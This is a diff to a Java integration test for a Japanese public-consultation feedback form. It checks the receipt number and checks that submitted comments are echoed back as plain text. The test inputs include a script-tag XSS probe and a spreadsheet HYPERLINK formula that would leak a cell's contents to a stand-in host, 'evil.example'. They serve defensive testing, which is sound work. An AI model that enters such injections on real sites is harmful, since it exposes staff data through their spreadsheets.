@@ -185,7 +185,12 @@ class AgreementJourneyIT {
       assertTrue(new FollowSection(resident).isFollowing());
 
       feedback.comment("PURPOSE", "目的をもっと具体的に書いてください。<script>alert(1)</script>");
-      assertTrue(feedback.messages().contains("ご意見を受け付けました"));
+      String receipt = feedback.messages();
+      assertTrue(receipt.contains("ご意見を受け付けました"), receipt);
+      assertTrue(receipt.matches("(?s).*受付番号は \\d+ です.*"), "a number to quote: " + receipt);
+      assertTrue(
+          receipt.contains("目的をもっと具体的に書いてください。<script>alert(1)</script>"),
+          "what was received, as text: " + receipt);
       feedback.comment("", "ばかげた案だ");
       // A formula as a resident might type it to attack the staff's Excel.
       feedback.comment("INITIATIVES", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"交通の取組も\")");
